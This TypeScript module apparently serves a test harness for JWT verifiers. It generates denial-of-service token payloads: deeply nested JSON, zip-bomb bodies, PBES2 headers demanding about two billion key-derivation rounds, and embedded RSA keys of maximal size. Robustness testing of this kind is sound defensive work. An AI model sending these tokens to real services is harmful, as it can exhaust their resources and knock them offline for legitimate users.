/**
 * JWTs that are cheap to make and may be expensive to refuse: by their size, depth, numbers, and by the work that their
 * headers ask for. Each fills the room that its place leaves for a token.
 */
import { deflateRawSync } from 'node:zlib'

/** A token that its place would accept, before a bomb changes it. */
export interface Model {
  /** Members of header and claims, as JSON without the braces. */
  header: string
  claims: string
  /** A claim that the place checks, and a claim that is a time. */
  checked: string
  time: string
  /** The longest token that the place reads, in characters. */
  room: number
  sign(input: string): string
}

export interface Bomb {
  name: string
  make(model: Model): string
}

const AUDIENCES = 1000
/** The largest modulus that OpenSSL accepts, and the largest modulus with which it accepts an exponent of the same length. Bits. */
const LARGEST_MODULUS = 16_384
const LARGEST_EXPONENT = 3072
const OVERSIZED = 4

export const BOMBS: Bomb[] = [
  { name: 'oversized', make: (model) => token(model, '', `,"pad":"${'A'.repeat(model.room * OVERSIZED)}"`) },
  { name: 'nested arrays', make: (model) => token(model, '', member(model.checked, nested(model, '[', '1', ']'))) },
  { name: 'nested objects', make: (model) => token(model, '', member(model.checked, nested(model, '{"":', '1', '}'))) },
  { name: 'nested header typ', make: (model) => token(model, member('typ', nested(model, '[', '1', ']')), '') },
  // If no key is found by `kid`, the check of the signature has to refuse.
  {
    name: 'nested header kid',
    make: (model) => token(unsigned(model), member('kid', nested(model, '[', '1', ']')), ''),
  },
  { name: 'nested header alg', make: (model) => token(model, member('alg', nested(model, '[', '1', ']')), '') },
  { name: 'a number of many digits', make: (model) => token(model, '', member(model.time, '9'.repeat(spare(model)))) },
  { name: 'a number beyond all', make: (model) => token(model, '', member(model.time, '1e999999999')) },
  { name: 'a thousand audiences', make: (model) => token(model, '', member(model.checked, audiences())) },
  { name: 'many members', make: (model) => token(model, '', manyMembers(model) + member(model.checked, 'null')) },
  { name: 'zip', make: (model) => zipped(model) },
  { name: 'p2c', make: (model) => encrypted(model) },
  { name: 'p2c, signed', make: (model) => token(model, '"alg":"PBES2-HS512+A256KW","p2c":2147483647,"p2s":"AA"', '') },
  { name: 'crit', make: (model) => token(model, member('crit', critical(model)), '') },
  { name: 'dots', make: ({ room }) => '.'.repeat(room) },
  { name: 'a header of nothing', make: ({ room }) => `${'A'.repeat(room - 4)}.A.A` },
  { name: 'embedded key, large modulus', make: (model) => embedded(model, LARGEST_MODULUS, 64) },
  { name: 'embedded key, large exponent', make: (model) => embedded(model, LARGEST_EXPONENT, LARGEST_EXPONENT - 1) },
]

const encode = (text: string): string => Buffer.from(text).toString('base64url')
const member = (name: string, json: string): string => `,"${name}":${json}`

/** The last of two members with one name wins, so that new members also replace old ones. */
function token({ header, claims, sign }: Model, moreHeader: string, moreClaims: string): string {
  const [first, second] = [`{${header}${separated(moreHeader)}}`, `{${claims}${separated(moreClaims)}}`]
  const input = `${encode(first)}.${encode(second)}`
  return `${input}.${sign(input)}`
}

const unsigned = (model: Model): Model => ({ ...model, sign: () => 'A'.repeat(86) })

const separated = (members: string): string => (members === '' || members.startsWith(',') ? members : `,${members}`)

/** The characters of JSON that fit beside the members and the signature of a model. */
const spare = ({ header, claims, room }: Model): number =>
  Math.floor((room * 3) / 4 - header.length - claims.length) - 200

const nested = (model: Model, open: string, inner: string, close: string): string => {
  const depth = Math.floor(spare(model) / (open.length + close.length))
  return open.repeat(depth) + inner + close.repeat(depth)
}

const audiences = (): string => JSON.stringify(Array.from({ length: AUDIENCES }, (_, number) => String(number % 10)))

const manyMembers = (model: Model): string =>
  Array.from({ length: Math.floor(spare(model) / 12) }, (_, number) => `,"${1e5 + number}":1`).join('')

const critical = (model: Model): string =>
  JSON.stringify(Array.from({ length: Math.floor(spare(model) / 5) }, () => 'exp'))

/** Unpacked it would be ten thousand times as large. `zip` belongs to JWE (RFC 7516 §4.1.3); for a JWS it means nothing. */
function zipped(model: Model): string {
  const { header, room, sign } = model
  const packed = deflateRawSync(Buffer.alloc(spare(model) * 900)).subarray(0, Math.floor(room / 2))
  const input = `${encode(`{${header},"zip":"DEF"}`)}.${packed.toString('base64url')}`
  return `${input}.${sign(input)}`
}

/** A JWE whose key is derived by two thousand million rounds (RFC 7518 §4.8.1.2). */
const encrypted = ({ header }: Model): string => {
  const asked = `"alg":"PBES2-HS512+A256KW","enc":"A256GCM","zip":"DEF","p2s":"${encode('saltsalt')}","p2c":2147483647`
  return [encode(`{${header},${asked}}`), encode('key'.repeat(13)), encode('iv'), encode('text'), encode('tag')].join(
    '.',
  )
}

/** Takes the caller's own key, chosen so that each signature costs as much as the platform allows. */
function embedded({ header, claims }: Model, modulusBits: number, exponentBits: number): string {
  const jwk = JSON.stringify({ kty: 'RSA', n: oddNumber(modulusBits), e: oddNumber(exponentBits) })
  const input = `${encode(`{${header},"alg":"RS256","jwk":${jwk}}`)}.${encode(`{${claims}}`)}`
  return `${input}.${Buffer.alloc(modulusBits / 8, 1).toString('base64url')}`
}

const oddNumber = (bits: number): string => {
  const bytes = Buffer.alloc(Math.ceil(bits / 8), 0xff)
  bytes[0] = 0xff >> (bytes.length * 8 - bits)
  return bytes.toString('base64url')
}
